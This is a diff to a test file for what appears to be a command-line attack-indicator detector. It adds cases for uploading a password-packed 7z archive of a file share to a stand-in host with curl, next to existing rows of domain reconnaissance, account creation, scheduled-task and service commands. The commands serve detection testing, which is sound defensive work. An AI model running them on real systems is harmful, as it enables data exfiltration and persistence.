@@ -85,6 +85,8 @@ describe('what attacks have in common', () => {
     ['asks for accounts, groups or trusts', 'net user bob /domain'],
     ['asks for accounts, groups or trusts', 'nltest /domain_trusts'],
     ['asks for machines, addresses or processes', 'systeminfo'],
+    ['uploads', 'curl.exe -T C:\\x.7z https://a.com/up'],
+    ['packs files under a password', '7z.exe a -pQ3 -v200m C:\\x.7z E:\\shares'],
     ['makes an account or adds to a group', 'net user bob pw /add'],
     ['makes a scheduled task', 'schtasks /create /tn x /tr y'],
     ['makes or changes a service', 'sc \\\\srv create x binpath= y'],
@@ -118,6 +120,11 @@ describe('what attacks have in common', () => {
     expect(commandLineIndicators.map(({ name }) => name).filter((name) => !cased.has(name))).toEqual([])
     expect(new Set(commandLineIndicators.map(({ name }) => name)).size).toBe(commandLineIndicators.length)
     for (const { technique } of commandLineIndicators) expect(technique).toMatch(/^T\d{4}(?:\.\d{3})?$/)
+  })
+
+  it('a file that is sent is not fetched', () => {
+    expect(indicators('curl.exe -T C:\\x.7z https://a.com/up')).toEqual(['uploads'])
+    expect(indicators('wget http://a.com/x -t 3 -T 5')).toEqual(['downloads'])
   })
 
   it.each([
